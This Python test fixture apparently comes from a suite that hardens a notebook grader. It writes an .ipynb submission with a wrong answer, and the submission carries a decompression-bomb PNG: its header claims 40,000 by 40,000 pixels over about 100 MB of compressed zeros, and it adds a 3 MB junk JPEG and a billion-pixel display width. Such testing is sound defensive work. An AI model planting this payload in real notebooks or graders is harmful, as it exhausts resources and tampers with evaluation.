"""Puts a picture of 40,000 by 40,000 points among its outputs.

stopped by: outputs are not read
unfenced: held
says: expected
"""


def hand_in(folder, values):
    import base64
    import json
    import struct
    import zlib

    from hostile.attack import HALF, notebook

    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    lines = zlib.compressobj(9)
    points = b"".join(lines.compress(bytes(1 << 20)) for _ in range(100)) + lines.flush()
    header = struct.pack(">IIBBBBB", 40_000, 40_000, 1, 0, 0, 0, 0)
    picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", points) + chunk(b"IEND", b"")
    document = json.loads(notebook([HALF, "def double(x):\n    return 2\n"]))
    data = {"image/png": base64.b64encode(picture).decode(), "image/jpeg": "A" * 3_000_000}
    document["cells"][1]["outputs"] = [{"output_type": "display_data", "metadata": {"image/png": {"width": 10**9}}, "data": data}]
    document["cells"].append({"cell_type": "markdown", "id": "m", "metadata": {}, "source": "![](attachment:a.png)", "attachments": {"a.png": data}})
    (folder / f"{values['CASE']}.ipynb").write_text(json.dumps(document))
